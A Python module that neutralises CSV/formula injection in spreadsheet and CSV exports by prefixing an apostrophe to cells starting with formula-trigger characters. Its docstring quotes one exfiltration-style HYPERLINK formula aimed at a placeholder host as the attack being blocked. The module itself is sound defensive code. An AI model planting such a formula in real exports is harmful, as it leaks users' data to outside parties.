"""What every spreadsheet export (xlsx) and CSV passes through, so that nothing a user typed becomes a
live formula in the reader's Excel or LibreOffice (CSV/formula injection, OWASP; issue 12 item 5).

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula (or, for
tab and CR, lets one hide behind them). Such a text gets a leading apostrophe, the spreadsheets' own
"this is text" marker; numbers and dates stay numbers and dates. A case titled
`=HYPERLINK("http://x?d="&A4,"Buka")` therefore shows as that text, and never as a link that sends
the next cell to someone.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

PEMICU_RUMUS = ("=", "+", "-", "@", "\t", "\r")


def netralkan(nilai):
    """A cell or CSV field as it is safe to write: text that a spreadsheet would read as a formula gets
    a leading apostrophe; everything else (numbers, dates, None, safe text) is returned unchanged."""
    if isinstance(nilai, str) and nilai.startswith(PEMICU_RUMUS):
        return "'" + nilai
    return nilai


def baris_aman(baris: Iterable) -> list:
    return [netralkan(v) for v in baris]


class PenulisCsv:
    """csv.writer whose every field goes through `netralkan` (riwayat.csv and any later CSV export)."""

    def __init__(self, berkas, **kwargs):
        self._penulis = csv.writer(berkas, **kwargs)

    def writerow(self, baris: Iterable):
        return self._penulis.writerow(baris_aman(baris))

    def writerows(self, daftar: Iterable[Iterable]):
        for baris in daftar:
            self.writerow(baris)


def xlsx_simpan(wb) -> bytes:
    """Save an openpyxl workbook after neutralising every text cell of every sheet. openpyxl itself turns
    a string starting with `=` into a formula cell; here each one becomes plain text again, whichever
    export built the sheet."""
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for sel in baris:
                if isinstance(sel.value, str):
                    aman = netralkan(sel.value)
                    if aman is not sel.value or sel.data_type == "f":
                        sel.value = aman
                        sel.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
